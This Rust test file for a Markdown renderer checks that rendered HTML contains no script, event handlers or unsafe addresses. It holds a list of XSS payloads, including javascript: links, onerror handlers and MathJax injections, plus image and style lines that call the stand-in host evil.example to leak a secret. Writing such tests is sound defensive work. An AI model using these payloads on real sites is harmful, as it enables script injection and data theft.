//! No input, however made, becomes something that runs, fetches or breaks out of its place.

use markdown::{Dialect, Document, Options, Progress, blocks, render, render_as};
use proptest::prelude::*;
use std::collections::HashSet;

/// The tags and attributes of a piece of HTML, read as a browser would read them.
fn tags(html: &str) -> Vec<String> {
    html.match_indices('<')
        .map(|(at, _)| html[at + 1..].split('>').next().unwrap_or("").to_lowercase())
        .collect()
}

const ELEMENTS: &[&str] = &[
    "p",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "aside",
    "details",
    "summary",
    "section",
    "sup",
    "blockquote",
    "ul",
    "ol",
    "li",
    "figure",
    "figcaption",
    "span",
    "button",
    "pre",
    "code",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "a",
    "img",
    "br",
    "hr",
    "input",
    "math",
    "mrow",
    "mi",
    "mn",
    "mo",
    "mtext",
    "mspace",
    "mfrac",
    "msqrt",
    "mroot",
    "msub",
    "msup",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mmultiscripts",
    "mprescripts",
    "mtable",
    "mtr",
    "mtd",
    "mstyle",
    "mpadded",
    "mphantom",
    "menclose",
];

const FILES: &str = "/api/v1/notes/1/attachments/named/";

fn as_note(source: &str) -> String {
    render_as(Dialect::Note, source, Options { files: Some(FILES), ..Options::default() })
}

fn with_footnotes() -> Options<'static> {
    Options { footnotes: Some("m"), ..Options::default() }
}

fn assert_harmless(source: &str, html: &str) {
    let mut open = Vec::new();
    let mut places = HashSet::new();
    for tag in tags(html) {
        let place = tag.split_once(" id=\"").and_then(|(_, rest)| rest.split('"').next());
        if let Some(place) = place {
            assert!(places.insert(place.to_owned()), "<{tag}> has a place twice from {source:?}");
        }
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(ELEMENTS.contains(&name.as_str()), "<{tag}> from {source:?}");
        if tag.starts_with('/') {
            assert_eq!(open.pop(), Some(name), "unbalanced from {source:?}: {html}");
        } else if !matches!(name.as_str(), "br" | "hr" | "img" | "input" | "mspace" | "mprescripts")
            && !tag.ends_with('/')
        {
            open.push(name);
        }
        // What stands in quotes was escaped, so it holds no quote: every second piece is outside.
        let outside: String = tag.split('"').step_by(2).collect();
        for (at, _) in outside.match_indices(" on") {
            assert!(outside[at..].starts_with(" on "), "handler in <{tag}> from {source:?}");
        }
        for attribute in ["href=\"", "src=\""] {
            if let Some((_, value)) = tag.split_once(attribute) {
                let allowed =
                    ["http:", "https:", "mailto:", "/"].iter().any(|scheme| value.starts_with(scheme));
                // A place in the same text, as of `[[#heading]]` and of footnotes, leads nowhere else.
                let is_here = attribute == "href=\"" && value.starts_with('#');
                assert!(
                    (allowed || is_here) && !value.starts_with("//"),
                    "address in <{tag}> from {source:?}"
                );
            }
        }
        let is_own = tag.contains(" src=\"/f/") || tag.contains(&format!(" src=\"{FILES}"));
        assert!(!tag.starts_with("img") || is_own, "<{tag}> from {source:?}");
    }
    assert!(open.is_empty(), "open {open:?} from {source:?}");
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/pixel.gif?q=secret)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1)](/f/a.png)",
    "![x](/f/../api/v1/sessions/current)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![*a ![b](/f/b.png) c*](https://evil.example/a.png)",
    "![**a ![[b.png]] ~~c~~** [d](/c/1)](/f/a.png)",
    "[[#heading]] ![[# x|y]] [[#\"onclick=x]]",
    "[a](https://a.example \"x\" onclick=\"alert(1)\")",
    "[a](https://a.example/\"onmouseover=\"alert(1))",
    "https://a.example/\"onmouseover=\"alert(1)",
    "```\"onload=alert(1)\ncode\n```",
    "```x</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=x> | y |",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{<script>alert(1)</script>}$$",
    "$\\class{x\" onload=\"alert(1)}{y}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "$\\unicode{x3c}script$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\[\\text{</math><script>}\\]",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<br onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "# <script>\n",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "> <iframe srcdoc='<script>'>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><button>",
    "\u{0}<script\u{0}>",
    "<scr\u{0}ipt>",
    "[x](\u{1}javascript:alert(1))",
    "[x](https://a.example\u{202e}gpj.exe)",
    "<https://a.example/<script>>",
    "<a@b.example\" onclick=x>",
    "[!note\" onclick=x] title",
    "[!note]<script>alert(1)</script>\n> <script>alert(1)</script>",
    "[!note]- **a\n> b** c",
    "x[^\"onclick=x]\n\n[^\"onclick=x]: <script>alert(1)</script>",
    "[^1]: [^1] [^1]\n\n[x[^1]](/c/1)",
    "> [^1]: in a quotation\n\n- [^1]",
    "![[../../me.png]]",
    "![[\"onerror=alert(1).png]]",
    "![[<script>|<script>]]",
    "[![[a]]](/c/1)",
    "---\n<script>alert(1)</script>\n---\n",
];

#[test]
fn no_attack_of_the_corpus_survives() {
    for attack in ATTACKS {
        assert_harmless(attack, &render(attack, Options::default()));
        assert_harmless(attack, &as_note(attack));
        assert_harmless(attack, &render(attack, with_footnotes()));
        for prefix in ["> ", "- ", "**", "| ", "# ", "[", "\\(", "$", "    "] {
            let source = format!("{prefix}{attack}");
            assert_harmless(&source, &render(&source, Options::default()));
            assert_harmless(&source, &as_note(&source));
            assert_harmless(&source, &render(&source, with_footnotes()));
        }
    }
}

#[test]
fn a_highlighter_that_lies_is_not_believed() {
    let lie = |_: &str, _: &str| Some("<img src=x onerror=alert(1)>".to_owned());
    let html = render("```js\na\n```", Options { highlight: Some(&lie), ..Options::default() });
    assert_harmless("lie", &html);
    let other = |_: &str, _: &str| Some("<span class=\"hljs-keyword\">other code</span>".to_owned());
    assert!(
        !render("```js\na\n```", Options { highlight: Some(&other), ..Options::default() })
            .contains("other code")
    );
}

#[test]
fn deep_and_long_inputs_end() {
    for source in [
        ">".repeat(20_000),
        "- ".repeat(5_000),
        "[".repeat(20_000),
        "*".repeat(20_000),
        "`".repeat(20_000),
        "![".repeat(10_000),
        "\\(".repeat(20_000),
        "$".repeat(20_000),
        "<".repeat(20_000),
        "|".repeat(5_000),
        "http://".repeat(5_000),
        "[^1]".repeat(5_000),
        "[^1]: ".repeat(5_000),
        (0..5_000).map(|number| format!("[^{number}]")).collect(),
        "a\n\n".repeat(20_000),
    ] {
        let html = render(&source, Options::default());
        assert_harmless(&source[..40], &html);
        assert_harmless(&source[..40], &as_note(&source));
        let mut document = Document::default();
        document.update(&source, Progress::Growing, with_footnotes());
    }
}

/// Pieces that mean something to Markdown, so that chance finds its corners.
fn markdown_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            "*",
            "**",
            "_",
            "~~",
            "`",
            "```",
            "~~~\n",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "1. ",
            "# ",
            "|",
            "|---|\n",
            "[",
            "](",
            ")",
            "![",
            "<",
            ">",
            "</",
            "<script>",
            "javascript:",
            "https://a.example",
            "$",
            "$$",
            "\\(",
            "\\)",
            "\\[",
            "\\]",
            "\\",
            "&lt;",
            "&#58;",
            "    ",
            "\t",
            "===",
            "---",
            "on=",
            "\"",
            "'",
            "x",
            "word ",
            "é",
            "🙂",
            "\u{0}",
            "\r\n",
            "[a]: /b",
            "\\frac{1}{2}",
            "{",
            "}",
            "^",
            "[ ] ",
            "<br>",
            "> [!note]- ",
            "[^1]",
            "\n[^1]: ",
            "![[a.png]]",
            "[[",
            "]]",
        ])
        .prop_map(str::to_owned),
        ".{0,6}",
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_500))]

    #[test]
    fn nothing_survives_that_runs_or_fetches(source in markdown_text()) {
        assert_harmless(&source, &render(&source, Options::default()));
    }

    #[test]
    fn nothing_survives_in_a_note_either(source in markdown_text()) {
        assert_harmless(&source, &as_note(&source));
    }

    #[test]
    fn blocks_are_the_whole_without_gaps(source in markdown_text()) {
        for options in [Options::default(), with_footnotes()] {
            let whole: String = blocks(&source, options).into_iter().map(|range| &source[range]).collect();
            prop_assert_eq!(&whole, &source);
        }
    }

    /// However a text arrives, its end is what a reader who comes later sees, and no state on the
    /// way is harmful.
    #[test]
    fn a_text_that_grew_is_the_text(source in markdown_text(), step in 1usize..9) {
        let mut document = Document::default();
        let marks: Vec<usize> = source.char_indices().map(|(at, _)| at).step_by(step).collect();
        for at in marks {
            document.update(&source[..at], Progress::Growing, with_footnotes());
            let shown: String = document.blocks().iter().map(|block| block.html.as_str()).collect();
            assert_harmless(&source[..at], &shown);
        }
        document.update(&source, Progress::Finished, with_footnotes());
        let grown: String = document.blocks().iter().map(|block| block.html.as_str()).collect();
        prop_assert_eq!(grown, render(&source, with_footnotes()));
    }
}
